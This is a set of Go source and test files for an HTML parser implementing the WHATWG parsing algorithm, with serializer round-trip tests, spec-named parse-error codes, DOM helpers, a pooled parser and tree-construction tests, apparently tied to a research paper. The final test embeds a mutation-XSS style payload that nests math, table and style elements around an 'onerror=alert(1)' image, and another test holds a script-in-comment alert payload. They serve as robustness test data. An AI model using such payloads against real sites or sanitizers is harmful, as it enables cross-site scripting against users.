			`<body><img/src="x"/alt="y"><a href="/u"title="t">l</a>`,
			`<html><head></head><body><img src="x" alt="y"><a href="/u" title="t">l</a></body></html>`,
		},
	}
	for _, tc := range cases {
		if got := renderOf(t, tc.in); got != tc.want {
			t.Errorf("render(%q):\n got  %s\n want %s", tc.in, got, tc.want)
		}
	}
}

func TestSerializeNBSP(t *testing.T) {
	got := renderOf(t, "<body>a b")
	if !strings.Contains(got, "a&nbsp;b") {
		t.Fatalf("nbsp not escaped: %q", got)
	}
}

func TestSerializeForeign(t *testing.T) {
	got := renderOf(t, `<body><svg viewBox="0 0 1 1"><circle r="1"/></svg>`)
	want := `<html><head></head><body><svg viewBox="0 0 1 1"><circle r="1"></circle></svg></body></html>`
	if got != want {
		t.Fatalf("got %q", got)
	}
}

func TestSerializeSubtree(t *testing.T) {
	res, err := Parse([]byte(`<body><ul><li>a</li><li>b</li></ul>`))
	if err != nil {
		t.Fatal(err)
	}
	ul := res.Doc.Find(func(n *Node) bool { return n.IsElement("ul") })
	if got := RenderString(ul); got != "<ul><li>a</li><li>b</li></ul>" {
		t.Fatalf("subtree render = %q", got)
	}
}

func TestSerializeRCDATAEscaped(t *testing.T) {
	// textarea/title text is escaped on output (they are RCDATA, not raw).
	got := renderOf(t, "<body><textarea><p>&amp;</textarea>")
	if !strings.Contains(got, "<textarea>&lt;p&gt;&amp;</textarea>") {
		t.Fatalf("textarea content = %q", got)
	}
}

// TestSerializeRoundTripHardCases pins the two serialize→reparse
// infidelities the conformance fuzzer found (internal/conformance,
// FuzzRenderParseFixpoint): a carriage return that entered the DOM via
// &#13; must re-escape (raw CR would re-parse as LF), and a text child
// of pre/textarea/listing that starts with a newline needs the spec's
// extra newline so the parser's drop-first-LF rule doesn't eat it.
func TestSerializeRoundTripHardCases(t *testing.T) {
	cases := []struct{ in, want string }{
		{
			"<body>a&#13;b",
			"<html><head></head><body>a&#13;b</body></html>",
		},
		{
			"<body><div title=\"a&#13;b\">x</div>",
			"<html><head></head><body><div title=\"a&#13;b\">x</div></body></html>",
		},
		{
			"<textarea>\n\nx</textarea>",
			"<html><head></head><body><textarea>\n\nx</textarea></body></html>",
		},
		{
			"<pre>\n\nx</pre>",
			"<html><head></head><body><pre>\n\nx</pre></body></html>",
		},
		{ // a single leading newline is the parser's to drop; no extra LF
			"<pre>\nx</pre>",
			"<html><head></head><body><pre>x</pre></body></html>",
		},
	}
	for _, tc := range cases {
		got := renderOf(t, tc.in)
		if got != tc.want {
			t.Errorf("render(%q):\n got  %s\n want %s", tc.in, got, tc.want)
		}
		if again := renderOf(t, got); again != got {
			t.Errorf("render(%q) is not a fixpoint:\n out1 %s\n out2 %s", tc.in, got, again)
		}
	}
}
