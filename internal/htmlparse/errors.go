package htmlparse

import "fmt"

// ErrorCode names a parse error exactly as the WHATWG HTML Living Standard
// does (section 13.2.2, "Parse errors"). The violation rules in
// internal/core match on these names, mirroring the paper's definition of
// the "Parsing Errors" violation category.
type ErrorCode string

// Tokenizer-stage parse errors.
const (
	ErrAbruptClosingOfEmptyComment        ErrorCode = "abrupt-closing-of-empty-comment"
	ErrAbruptDoctypePublicIdentifier      ErrorCode = "abrupt-doctype-public-identifier"
	ErrAbruptDoctypeSystemIdentifier      ErrorCode = "abrupt-doctype-system-identifier"
	ErrAbsenceOfDigitsInNumericCharRef    ErrorCode = "absence-of-digits-in-numeric-character-reference"
	ErrCDATAInHTMLContent                 ErrorCode = "cdata-in-html-content"
	ErrCharRefOutsideUnicodeRange         ErrorCode = "character-reference-outside-unicode-range"
	ErrControlCharacterInInputStream      ErrorCode = "control-character-in-input-stream"
	ErrControlCharacterReference          ErrorCode = "control-character-reference"
	ErrDuplicateAttribute                 ErrorCode = "duplicate-attribute"
	ErrEndTagWithAttributes               ErrorCode = "end-tag-with-attributes"
	ErrEndTagWithTrailingSolidus          ErrorCode = "end-tag-with-trailing-solidus"
	ErrEOFBeforeTagName                   ErrorCode = "eof-before-tag-name"
	ErrEOFInCDATA                         ErrorCode = "eof-in-cdata"
	ErrEOFInComment                       ErrorCode = "eof-in-comment"
	ErrEOFInDoctype                       ErrorCode = "eof-in-doctype"
	ErrEOFInScriptHTMLCommentLikeText     ErrorCode = "eof-in-script-html-comment-like-text"
	ErrEOFInTag                           ErrorCode = "eof-in-tag"
	ErrIncorrectlyClosedComment           ErrorCode = "incorrectly-closed-comment"
	ErrIncorrectlyOpenedComment           ErrorCode = "incorrectly-opened-comment"
	ErrInvalidCharacterSequenceAfterDT    ErrorCode = "invalid-character-sequence-after-doctype-name"
	ErrInvalidFirstCharacterOfTagName     ErrorCode = "invalid-first-character-of-tag-name"
	ErrMissingAttributeValue              ErrorCode = "missing-attribute-value"
	ErrMissingDoctypeName                 ErrorCode = "missing-doctype-name"
	ErrMissingDoctypePublicIdentifier     ErrorCode = "missing-doctype-public-identifier"
	ErrMissingDoctypeSystemIdentifier     ErrorCode = "missing-doctype-system-identifier"
	ErrMissingEndTagName                  ErrorCode = "missing-end-tag-name"
	ErrMissingQuoteBeforeDoctypePublicID  ErrorCode = "missing-quote-before-doctype-public-identifier"
	ErrMissingQuoteBeforeDoctypeSystemID  ErrorCode = "missing-quote-before-doctype-system-identifier"
	ErrMissingSemicolonAfterCharRef       ErrorCode = "missing-semicolon-after-character-reference"
	ErrMissingWhitespaceAfterDoctypeKW    ErrorCode = "missing-whitespace-after-doctype-keyword"
	ErrMissingWhitespaceBeforeDoctypeName ErrorCode = "missing-whitespace-before-doctype-name"
	ErrMissingWhitespaceBetweenAttributes ErrorCode = "missing-whitespace-between-attributes"
	ErrMissingWhitespaceBetweenDTIDs      ErrorCode = "missing-whitespace-between-doctype-public-and-system-identifiers"
	ErrNestedComment                      ErrorCode = "nested-comment"
	ErrNoncharacterCharacterReference     ErrorCode = "noncharacter-character-reference"
	ErrNoncharacterInInputStream          ErrorCode = "noncharacter-in-input-stream"
	// ErrNonVoidElementWithTrailingSolidus is declared with the other
	// spec-named codes but emitted by the tree construction stage: the
	// tokenizer sets the self-closing flag, and only the tree builder
	// knows whether a handler acknowledged it.
	ErrNonVoidElementWithTrailingSolidus  ErrorCode = "non-void-html-element-start-tag-with-trailing-solidus"
	ErrNullCharacterReference             ErrorCode = "null-character-reference"
	ErrSurrogateCharacterReference        ErrorCode = "surrogate-character-reference"
	ErrSurrogateInInputStream             ErrorCode = "surrogate-in-input-stream"
	ErrUnexpectedCharacterAfterDTSystemID ErrorCode = "unexpected-character-after-doctype-system-identifier"
	ErrUnexpectedCharacterInAttributeName ErrorCode = "unexpected-character-in-attribute-name"
	ErrUnexpectedCharInUnquotedAttrValue  ErrorCode = "unexpected-character-in-unquoted-attribute-value"
	ErrUnexpectedEqualsSignBeforeAttrName ErrorCode = "unexpected-equals-sign-before-attribute-name"
	ErrUnexpectedNullCharacter            ErrorCode = "unexpected-null-character"
	ErrUnexpectedQuestionMarkInsteadOfTag ErrorCode = "unexpected-question-mark-instead-of-tag-name"
	ErrUnexpectedSolidusInTag             ErrorCode = "unexpected-solidus-in-tag"
	ErrUnknownNamedCharacterReference     ErrorCode = "unknown-named-character-reference"
)

// Tree-construction-stage parse errors. The specification does not name
// these individually; it only says "this is a parse error". We give each
// corrective action a stable name so rules can match on them.
const (
	ErrUnexpectedTokenInInitialMode ErrorCode = "unexpected-token-in-initial-insertion-mode"
	ErrUnexpectedDoctype            ErrorCode = "unexpected-doctype"
	ErrUnexpectedStartTag           ErrorCode = "unexpected-start-tag"
	ErrUnexpectedEndTag             ErrorCode = "unexpected-end-tag"
	ErrUnexpectedTextInTable        ErrorCode = "unexpected-text-in-table"
	ErrUnexpectedEOFInElement       ErrorCode = "unexpected-eof-open-element"
	ErrNestedFormElement            ErrorCode = "nested-form-element"
	ErrSecondBodyStartTag           ErrorCode = "second-body-start-tag"
	ErrFosterParenting              ErrorCode = "foster-parenting"
	ErrForeignContentBreakout       ErrorCode = "foreign-content-breakout"
	ErrUnexpectedElementInHead      ErrorCode = "unexpected-element-in-head"
	ErrHTMLIntegrationMisnesting    ErrorCode = "html-integration-misnesting"
	ErrAdoptionAgencyMisnesting     ErrorCode = "adoption-agency-misnesting"
)

// Position is a byte offset plus human-readable line/column (1-based) into
// the preprocessed input stream.
type Position struct {
	Offset int
	Line   int
	Col    int
}

func (p Position) String() string { return fmt.Sprintf("%d:%d", p.Line, p.Col) }

// ParseError records one specification violation observed while parsing.
// The parser never aborts on a parse error; consistent with the error
// tolerance the paper studies, it records the error and repairs the input.
type ParseError struct {
	Code ErrorCode
	Pos  Position
	// Detail optionally carries evidence, e.g. the offending attribute name.
	Detail string
}

func (e ParseError) Error() string {
	if e.Detail != "" {
		return fmt.Sprintf("%s: %s (%s)", e.Pos, e.Code, e.Detail)
	}
	return fmt.Sprintf("%s: %s", e.Pos, e.Code)
}
