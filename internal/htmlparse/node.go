package htmlparse

import "strings"

// NodeType identifies the kind of a DOM node.
type NodeType int

const (
	// DocumentNode is the root of a parsed tree.
	DocumentNode NodeType = iota
	// ElementNode is an element such as <div>.
	ElementNode
	// TextNode holds character data.
	TextNode
	// CommentNode holds a comment.
	CommentNode
	// DoctypeNode holds the document type declaration.
	DoctypeNode
)

// Namespace identifies the markup namespace an element lives in. The paper's
// HF5 rules hinge on transitions between these.
type Namespace int

const (
	// NamespaceHTML is the default HTML namespace.
	NamespaceHTML Namespace = iota
	// NamespaceSVG is entered via <svg>.
	NamespaceSVG
	// NamespaceMathML is entered via <math>.
	NamespaceMathML
)

func (ns Namespace) String() string {
	switch ns {
	case NamespaceSVG:
		return "svg"
	case NamespaceMathML:
		return "math"
	}
	return "html"
}

// Node is a node in the document tree built by the tree construction stage.
// The structure (linked siblings and parent/first/last child pointers)
// follows the conventional DOM shape.
type Node struct {
	Type      NodeType
	Data      string // tag name for elements, text for text/comment nodes
	Namespace Namespace
	Attr      []Attribute

	// PublicID and SystemID carry the doctype identifiers (valid on
	// DoctypeNode only). They feed the quirks-mode classification and the
	// html5lib-dialect tree dump.
	PublicID, SystemID string

	Parent, FirstChild, LastChild, PrevSibling, NextSibling *Node

	// Pos is where the token that created this node started.
	Pos Position

	// AutoClosedAtEOF marks an element that was still on the stack of open
	// elements when the input ended; the parser closed it implicitly. The
	// DE1/DE2 rules inspect this.
	AutoClosedAtEOF bool
	// Implied marks an element the parser synthesized without a
	// corresponding start tag (e.g. <head> or <body> when omitted).
	Implied bool
	// FosterParented marks an element or text node that the parser moved
	// in front of a table (the HF4 signal).
	FosterParented bool
}

// AppendChild adds c as the last child of n. c must not already have a
// parent or siblings.
func (n *Node) AppendChild(c *Node) {
	if c.Parent != nil || c.PrevSibling != nil || c.NextSibling != nil {
		panic("htmlparse: AppendChild called for an attached child Node")
	}
	last := n.LastChild
	if last != nil {
		last.NextSibling = c
	} else {
		n.FirstChild = c
	}
	n.LastChild = c
	c.Parent = n
	c.PrevSibling = last
}

// InsertBefore inserts c as a child of n, immediately before oldChild. If
// oldChild is nil it appends instead. c must be detached.
func (n *Node) InsertBefore(c, oldChild *Node) {
	if c.Parent != nil || c.PrevSibling != nil || c.NextSibling != nil {
		panic("htmlparse: InsertBefore called for an attached child Node")
	}
	if oldChild == nil {
		n.AppendChild(c)
		return
	}
	prev := oldChild.PrevSibling
	if prev != nil {
		prev.NextSibling = c
	} else {
		n.FirstChild = c
	}
	c.PrevSibling = prev
	c.NextSibling = oldChild
	oldChild.PrevSibling = c
	c.Parent = n
}

// RemoveChild detaches c from n. It panics if c is not a child of n.
func (n *Node) RemoveChild(c *Node) {
	if c.Parent != n {
		panic("htmlparse: RemoveChild called for a non-child Node")
	}
	if n.FirstChild == c {
		n.FirstChild = c.NextSibling
	}
	if n.LastChild == c {
		n.LastChild = c.PrevSibling
	}
	if c.PrevSibling != nil {
		c.PrevSibling.NextSibling = c.NextSibling
	}
	if c.NextSibling != nil {
		c.NextSibling.PrevSibling = c.PrevSibling
	}
	c.Parent = nil
	c.PrevSibling = nil
	c.NextSibling = nil
}

// LookupAttr returns the value of the named attribute and whether it exists.
func (n *Node) LookupAttr(name string) (string, bool) {
	for i := range n.Attr {
		if n.Attr[i].Name == name {
			return n.Attr[i].Value, true
		}
	}
	return "", false
}

// IsElement reports whether n is an HTML-namespace element with the given
// tag name.
func (n *Node) IsElement(tag string) bool {
	return n.Type == ElementNode && n.Namespace == NamespaceHTML && n.Data == tag
}

// Walk visits n and all its descendants in document order. Returning false
// from f stops the walk.
func (n *Node) Walk(f func(*Node) bool) bool {
	if !f(n) {
		return false
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if !c.Walk(f) {
			return false
		}
	}
	return true
}

// Find returns the first descendant (or n itself) for which f returns true.
func (n *Node) Find(f func(*Node) bool) *Node {
	var found *Node
	n.Walk(func(m *Node) bool {
		if f(m) {
			found = m
			return false
		}
		return true
	})
	return found
}

// FindAll returns all nodes in n's subtree for which f returns true, in
// document order.
func (n *Node) FindAll(f func(*Node) bool) []*Node {
	var out []*Node
	n.Walk(func(m *Node) bool {
		if f(m) {
			out = append(out, m)
		}
		return true
	})
	return out
}

// Text concatenates the text content of n's subtree.
func (n *Node) Text() string {
	var b strings.Builder
	n.Walk(func(m *Node) bool {
		if m.Type == TextNode {
			b.WriteString(m.Data)
		}
		return true
	})
	return b.String()
}

// Ancestor returns the nearest ancestor element with the given HTML tag
// name, or nil.
func (n *Node) Ancestor(tag string) *Node {
	for p := n.Parent; p != nil; p = p.Parent {
		if p.IsElement(tag) {
			return p
		}
	}
	return nil
}
