package htmlparse

import "sync"

// Parser owns the scratch state of one tokenizer + tree builder pair so a
// long-running workload (the crawler's page loop, the conformance runner)
// can parse documents back to back without re-allocating its buffers.
//
// Only scratch is recycled between parses: the token queue, text and
// attribute accumulators, open-element stack, active-formatting list and
// error slices. Everything that escapes into a Result — the preprocessed
// input buffer, the node arena slabs, the events and tokens slices — is
// abandoned to the previous document on reset, so Results stay valid after
// the parser moves on (there is no aliasing between two parses' outputs).
type Parser struct {
	z  Tokenizer
	tb treeBuilder

	// fresh distinguishes a pool miss (New just ran) from a reuse at Get
	// time, feeding the htmlparse_pool_* metrics.
	fresh bool
}

var parserPool = sync.Pool{New: func() any { return &Parser{fresh: true} }}

func getParser() *Parser {
	p := parserPool.Get().(*Parser)
	if m := metrics.Load(); m != nil {
		if p.fresh {
			m.poolMisses.Inc()
		} else {
			m.poolHits.Inc()
		}
	}
	p.fresh = false
	return p
}

// reset re-arms the parser over a freshly preprocessed input buffer,
// reusing scratch capacity and dropping per-document state (arena, events,
// tokens) on the floor for the previous Result to keep.
func (p *Parser) reset(input []byte, opts Options) {
	z := &p.z
	*z = Tokenizer{
		input:     input,
		line:      1,
		col:       1,
		state:     stateData,
		queue:     z.queue[:0],
		textBuf:   z.textBuf[:0],
		attrName:  z.attrName[:0],
		attrValue: z.attrValue[:0],
		attrRaw:   z.attrRaw[:0],
		tmpBuf:    z.tmpBuf[:0],
		errors:    z.errors[:0],
	}
	tb := &p.tb
	*tb = treeBuilder{
		z:                z,
		mode:             modeInitial,
		framesetOK:       true,
		scriptingEnabled: true,
		recordTokens:     opts.RecordTokens,
		stack:            tb.stack[:0],
		afe:              tb.afe[:0],
		pendingTableText: tb.pendingTableText[:0],
		errors:           tb.errors[:0],
	}
	tb.doc = tb.newNode()
	tb.doc.Type = DocumentNode
	z.AllowCDATA = func() bool {
		n := tb.currentNode()
		return n != nil && n.Namespace != NamespaceHTML
	}
}

// ParseReuse is Parse backed by a pooled parser instance: same semantics
// and output, amortized scratch allocations. Use it in loops that parse
// many documents; the Result remains valid after the parser is recycled.
func ParseReuse(b []byte) (*Result, error) {
	return ParseReuseWithOptions(b, Options{RecordTokens: true})
}

// ParseReuseWithOptions is ParseReuse with explicit options.
func ParseReuseWithOptions(b []byte, opts Options) (*Result, error) {
	pre, err := Preprocess(b)
	if err != nil {
		return nil, err
	}
	p := getParser()
	p.reset(pre.Input, opts)
	p.tb.run()
	res := assemble(pre, &p.z, &p.tb, p.tb.doc)
	parserPool.Put(p)
	return res, nil
}

// ParseFragmentReuse is ParseFragment backed by a pooled parser instance.
func ParseFragmentReuse(b []byte, context string) (*Result, error) {
	pre, err := Preprocess(b)
	if err != nil {
		return nil, err
	}
	p := getParser()
	p.reset(pre.Input, Options{RecordTokens: true})
	root := p.tb.setupFragment(context)
	p.tb.run()
	res := assemble(pre, &p.z, &p.tb, root)
	parserPool.Put(p)
	return res, nil
}
