package htmlparse

import (
	"strings"
	"testing"
)

// dumpTree renders a DOM in the html5lib-tests dump format, which makes
// tree construction expectations precise and readable:
//
//	| <html>
//	|   <head>
//	|   <body>
//	|     "text"
//
// It is the exported DumpTree (dump.go); the alias keeps the many test
// call sites short.
func dumpTree(n *Node) string { return DumpTree(n) }

// treeCase parses input and compares the dump against want (leading pipe
// format, whitespace-trimmed per line).
func treeCase(t *testing.T, name, input, want string) {
	t.Helper()
	t.Run(name, func(t *testing.T) {
		t.Helper()
		res, err := Parse([]byte(input))
		if err != nil {
			t.Fatalf("Parse: %v", err)
		}
		got := strings.TrimSpace(dumpTree(res.Doc))
		want = strings.TrimSpace(normalizeDump(want))
		if got != want {
			t.Fatalf("tree mismatch for %q\n--- got ---\n%s\n--- want ---\n%s", input, got, want)
		}
	})
}

func normalizeDump(s string) string {
	lines := strings.Split(s, "\n")
	var out []string
	for _, l := range lines {
		l = strings.TrimRight(l, " \t")
		if strings.TrimSpace(l) == "" {
			continue
		}
		// allow indented raw strings in tests
		out = append(out, strings.TrimPrefix(l, "\t\t"))
	}
	return strings.Join(out, "\n")
}

func TestTreeSkeletonSynthesis(t *testing.T) {
	treeCase(t, "empty document", "", `
| <html>
|   <head>
|   <body>`)

	treeCase(t, "text only", "hello", `
| <html>
|   <head>
|   <body>
|     "hello"`)

	treeCase(t, "doctype only", "<!DOCTYPE html>", `
| <!DOCTYPE html>
| <html>
|   <head>
|   <body>`)

	treeCase(t, "explicit skeleton", "<!DOCTYPE html><html><head></head><body>x</body></html>", `
| <!DOCTYPE html>
| <html>
|   <head>
|   <body>
|     "x"`)

	treeCase(t, "head content routed", "<title>T</title><p>b", `
| <html>
|   <head>
|     <title>
|       "T"
|   <body>
|     <p>
|       "b"`)

	treeCase(t, "html attrs merged", `<html lang="en"><html class="x">`, `
| <html>
|   class="x"
|   lang="en"
|   <head>
|   <body>`)
}

func TestTreeImpliedEndTags(t *testing.T) {
	treeCase(t, "nested p closes", "<body><p>one<p>two", `
| <html>
|   <head>
|   <body>
|     <p>
|       "one"
|     <p>
|       "two"`)

	treeCase(t, "li siblings", "<ul><li>a<li>b</ul>", `
| <html>
|   <head>
|   <body>
|     <ul>
|       <li>
|         "a"
|       <li>
|         "b"`)

	treeCase(t, "dd dt", "<dl><dt>k<dd>v</dl>", `
| <html>
|   <head>
|   <body>
|     <dl>
|       <dt>
|         "k"
|       <dd>
|         "v"`)

	treeCase(t, "heading closes heading", "<h1>a<h2>b", `
| <html>
|   <head>
|   <body>
|     <h1>
|       "a"
|     <h2>
|       "b"`)

	// A stray </p> before any content is dropped in "before html" mode…
	treeCase(t, "p end before body ignored", "</p>", `
| <html>
|   <head>
|   <body>`)

	// …but inside the body the spec synthesizes an empty p element.
	treeCase(t, "p end without open", "<body></p>", `
| <html>
|   <head>
|   <body>
|     <p>`)
}

func TestTreeTables(t *testing.T) {
	treeCase(t, "implied tbody", "<table><tr><td>c</td></tr></table>", `
| <html>
|   <head>
|   <body>
|     <table>
|       <tbody>
|         <tr>
|           <td>
|             "c"`)

	treeCase(t, "foster parented element", "<table><tr><strong>X</strong></tr></table>", `
| <html>
|   <head>
|   <body>
|     <strong>
|       "X"
|     <table>
|       <tbody>
|         <tr>`)

	treeCase(t, "foster parented text", "<table>oops<tr><td>a</table>", `
| <html>
|   <head>
|   <body>
|     "oops"
|     <table>
|       <tbody>
|         <tr>
|           <td>
|             "a"`)

	treeCase(t, "whitespace stays in table", "<table>  <tr><td>a</table>", `
| <html>
|   <head>
|   <body>
|     <table>
|       "  "
|       <tbody>
|         <tr>
|           <td>
|             "a"`)

	treeCase(t, "caption and colgroup", "<table><caption>c</caption><colgroup><col></colgroup><tr><td>x</table>", `
| <html>
|   <head>
|   <body>
|     <table>
|       <caption>
|         "c"
|       <colgroup>
|         <col>
|       <tbody>
|         <tr>
|           <td>
|             "x"`)

	treeCase(t, "cell closes cell", "<table><tr><td>a<td>b</table>", `
| <html>
|   <head>
|   <body>
|     <table>
|       <tbody>
|         <tr>
|           <td>
|             "a"
|           <td>
|             "b"`)

	treeCase(t, "nested table closes row context", "<table><tr><td><table><tr><td>i</table></table>", `
| <html>
|   <head>
|   <body>
|     <table>
|       <tbody>
|         <tr>
|           <td>
|             <table>
|               <tbody>
|                 <tr>
|                   <td>
|                     "i"`)

	treeCase(t, "hidden input stays in table", `<table><input type="hidden"><tr><td>x</table>`, `
| <html>
|   <head>
|   <body>
|     <table>
|       <input>
|         type="hidden"
|       <tbody>
|         <tr>
|           <td>
|             "x"`)

	treeCase(t, "visible input foster parents", `<table><input type="text"><tr><td>x</table>`, `
| <html>
|   <head>
|   <body>
|     <input>
|       type="text"
|     <table>
|       <tbody>
|         <tr>
|           <td>
|             "x"`)
}

func TestTreeFormattingElements(t *testing.T) {
	treeCase(t, "simple adoption agency", "<b>bold<p>both</b>plain</p>", `
| <html>
|   <head>
|   <body>
|     <b>
|       "bold"
|     <p>
|       <b>
|         "both"
|       "plain"`)

	treeCase(t, "a resets a", `<a href="/1">one<a href="/2">two`, `
| <html>
|   <head>
|   <body>
|     <a>
|       href="/1"
|       "one"
|     <a>
|       href="/2"
|       "two"`)

	treeCase(t, "formatting nests into block", "<b>x<p>y", `
| <html>
|   <head>
|   <body>
|     <b>
|       "x"
|       <p>
|         "y"`)

	treeCase(t, "reconstruct after closed p", "<p><b>x</p><p>y", `
| <html>
|   <head>
|   <body>
|     <p>
|       <b>
|         "x"
|     <p>
|       <b>
|         "y"`)

	treeCase(t, "misnested i b", "<p>1<b>2<i>3</b>4</i>5", `
| <html>
|   <head>
|   <body>
|     <p>
|       "1"
|       <b>
|         "2"
|         <i>
|           "3"
|       <i>
|         "4"
|       "5"`)
}

func TestTreeRawText(t *testing.T) {
	treeCase(t, "script content opaque", `<script>if (a < b) { x("</div>"); }</script>`, `
| <html>
|   <head>
|     <script>
|       "if (a < b) { x("</div>"); }"
|   <body>`)

	treeCase(t, "style content opaque", "<style>a > b { color: red }</style>", `
| <html>
|   <head>
|     <style>
|       "a > b { color: red }"
|   <body>`)

	treeCase(t, "textarea keeps markup as text", "<body><textarea><p>x</p></textarea>after", `
| <html>
|   <head>
|   <body>
|     <textarea>
|       "<p>x</p>"
|     "after"`)

	treeCase(t, "textarea skips leading newline", "<body><textarea>\nkeep</textarea>", `
| <html>
|   <head>
|   <body>
|     <textarea>
|       "keep"`)

	treeCase(t, "title rcdata decodes entities", "<title>a &amp; b</title>", `
| <html>
|   <head>
|     <title>
|       "a & b"
|   <body>`)

	treeCase(t, "script double escape", "<script><!--<script>alert(1)</script>--></script>", `
| <html>
|   <head>
|     <script>
|       "<!--<script>alert(1)</script>-->"
|   <body>`)
}

func TestTreeForeignContent(t *testing.T) {
	treeCase(t, "svg subtree", `<body><svg viewBox="0 0 1 1"><circle r="1"/></svg>`, `
| <html>
|   <head>
|   <body>
|     <svg svg>
|       viewBox="0 0 1 1"
|       <svg circle>
|         r="1"`)

	treeCase(t, "svg case adjustment", "<svg><lineargradient></lineargradient></svg>", `
| <html>
|   <head>
|   <body>
|     <svg svg>
|       <svg linearGradient>`)

	treeCase(t, "math mi integration point", "<math><mi><b>x</b></mi></math>", `
| <html>
|   <head>
|   <body>
|     <math math>
|       <math mi>
|         <b>
|           "x"`)

	treeCase(t, "breakout from svg", "<svg><g><div>html</div></svg>", `
| <html>
|   <head>
|   <body>
|     <svg svg>
|       <svg g>
|     <div>
|       "html"`)

	treeCase(t, "font with color breaks out", `<svg><font color="red">x</font></svg>`, `
| <html>
|   <head>
|   <body>
|     <svg svg>
|     <font>
|       color="red"
|       "x"`)

	treeCase(t, "font without attrs stays foreign", `<svg><font>x</font></svg>`, `
| <html>
|   <head>
|   <body>
|     <svg svg>
|       <svg font>
|         "x"`)

	treeCase(t, "foreignObject is html island", "<svg><foreignobject><p>para</p></foreignobject></svg>", `
| <html>
|   <head>
|   <body>
|     <svg svg>
|       <svg foreignObject>
|         <p>
|           "para"`)

	treeCase(t, "cdata in foreign content", "<svg><desc><![CDATA[a<b]]></desc></svg>", `
| <html>
|   <head>
|   <body>
|     <svg svg>
|       <svg desc>
|         "a<b"`)

	treeCase(t, "annotation-xml html encoding", `<math><annotation-xml encoding="text/html"><div>d</div></annotation-xml></math>`, `
| <html>
|   <head>
|   <body>
|     <math math>
|       <math annotation-xml>
|         encoding="text/html"
|         <div>
|           "d"`)
}

func TestTreeSelect(t *testing.T) {
	treeCase(t, "options", "<select><option>a<option>b</select>", `
| <html>
|   <head>
|   <body>
|     <select>
|       <option>
|         "a"
|       <option>
|         "b"`)

	treeCase(t, "optgroup closes option", "<select><option>a<optgroup label=g><option>b</select>", `
| <html>
|   <head>
|   <body>
|     <select>
|       <option>
|         "a"
|       <optgroup>
|         label="g"
|         <option>
|           "b"`)

	treeCase(t, "tags stripped inside select", "<select><option><p id=private>secret</p></select>", `
| <html>
|   <head>
|   <body>
|     <select>
|       <option>
|         "secret"`)

	treeCase(t, "nested select closes", "<select><option>a<select>", `
| <html>
|   <head>
|   <body>
|     <select>
|       <option>
|         "a"`)

	treeCase(t, "input pops select", "<select><option>a<input name=x>", `
| <html>
|   <head>
|   <body>
|     <select>
|       <option>
|         "a"
|     <input>
|       name="x"`)
}

func TestTreeFormPointer(t *testing.T) {
	treeCase(t, "nested form ignored", `<form action="/a"><form action="/b"><input name=q></form>`, `
| <html>
|   <head>
|   <body>
|     <form>
|       action="/a"
|       <input>
|         name="q"`)

	treeCase(t, "sibling forms allowed", `<form action="/a"></form><form action="/b"></form>`, `
| <html>
|   <head>
|   <body>
|     <form>
|       action="/a"
|     <form>
|       action="/b"`)
}

func TestTreeBodyMerging(t *testing.T) {
	treeCase(t, "second body merges attrs", `<body class="a"><p>x</p><body class="b" id="i">`, `
| <html>
|   <head>
|   <body>
|     class="a"
|     id="i"
|     <p>
|       "x"`)

	treeCase(t, "content after body goes back in", "<body><p>x</p></body><div>late</div>", `
| <html>
|   <head>
|   <body>
|     <p>
|       "x"
|     <div>
|       "late"`)
}

func TestTreeComments(t *testing.T) {
	treeCase(t, "comment placement", "<!--top--><html><!--in html--><head></head><body>x</body></html><!--after-->", `
| <!-- top -->
| <html>
|   <!-- in html -->
|   <head>
|   <body>
|     "x"
| <!-- after -->`)

	treeCase(t, "bogus comment from ?", "<?php echo ?><p>x", `
| <!-- ?php echo ? -->
| <html>
|   <head>
|   <body>
|     <p>
|       "x"`)
}

func TestTreeHeadEdgeCases(t *testing.T) {
	treeCase(t, "meta after head reroutes into head", `<head><title>t</title></head><meta charset="utf-8"><body>x`, `
| <html>
|   <head>
|     <title>
|       "t"
|     <meta>
|       charset="utf-8"
|   <body>
|     "x"`)

	treeCase(t, "div breaks head", "<head><title>t</title><div>d</div></head>", `
| <html>
|   <head>
|     <title>
|       "t"
|   <body>
|     <div>
|       "d"`)

	treeCase(t, "meta in body stays in body", "<body><p>x</p><meta name=late>", `
| <html>
|   <head>
|   <body>
|     <p>
|       "x"
|     <meta>
|       name="late"`)
}

func TestTreeImageRetagged(t *testing.T) {
	treeCase(t, "image becomes img", `<image src="/x.png">`, `
| <html>
|   <head>
|   <body>
|     <img>
|       src="/x.png"`)
}

func TestTreeEOFAutoClose(t *testing.T) {
	res, err := Parse([]byte("<body><div><ul><li>x"))
	if err != nil {
		t.Fatal(err)
	}
	div := res.Doc.Find(func(n *Node) bool { return n.IsElement("div") })
	li := res.Doc.Find(func(n *Node) bool { return n.IsElement("li") })
	if div == nil || !div.AutoClosedAtEOF {
		t.Fatal("div not flagged auto-closed")
	}
	if li == nil || !li.AutoClosedAtEOF {
		t.Fatal("li not flagged auto-closed")
	}
	var allowed, disallowed int
	for _, e := range res.EventsByKind(EventAutoClosedAtEOF) {
		if e.Allowed {
			allowed++
		} else {
			disallowed++
		}
	}
	// li is allowed to remain open at EOF; div and ul are not.
	if allowed != 1 || disallowed != 2 {
		t.Fatalf("allowed=%d disallowed=%d events=%v", allowed, disallowed, res.Events)
	}
}

func TestTreeFragmentContexts(t *testing.T) {
	cases := []struct {
		context string
		input   string
		find    string
	}{
		{"div", "<p>x</p>", "p"},
		{"table", "<tr><td>x</td></tr>", "td"},
		{"select", "<option>x</option>", "option"},
		{"textarea", "<p>not an element</p>", ""},
	}
	for _, tc := range cases {
		res, err := ParseFragment([]byte(tc.input), tc.context)
		if err != nil {
			t.Fatalf("%s: %v", tc.context, err)
		}
		p := res.Doc.Find(func(n *Node) bool {
			return n.Type == ElementNode && n.Data == tc.find
		})
		if tc.find == "" {
			if got := res.Doc.Text(); got != "<p>not an element</p>" {
				t.Fatalf("textarea context: text = %q", got)
			}
			continue
		}
		if p == nil {
			t.Fatalf("%s context: %s not found in %s", tc.context, tc.find, dumpTree(res.Doc))
		}
	}
}

// TestW3CValidatorKiller: the Figure 7 document that breaks the W3C
// validator must parse to completion here, with errors recorded instead of
// parsing aborted.
func TestW3CValidatorKiller(t *testing.T) {
	const doc = `<!DOCTYPE html>
<html lang="en">
<head>
<title>Test</title>
<meta charset="UTF-8">
</head>
<body>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
</body>
</html>`
	res, err := Parse([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	// The whole document must have been processed: the html element is
	// closed properly and the img exists.
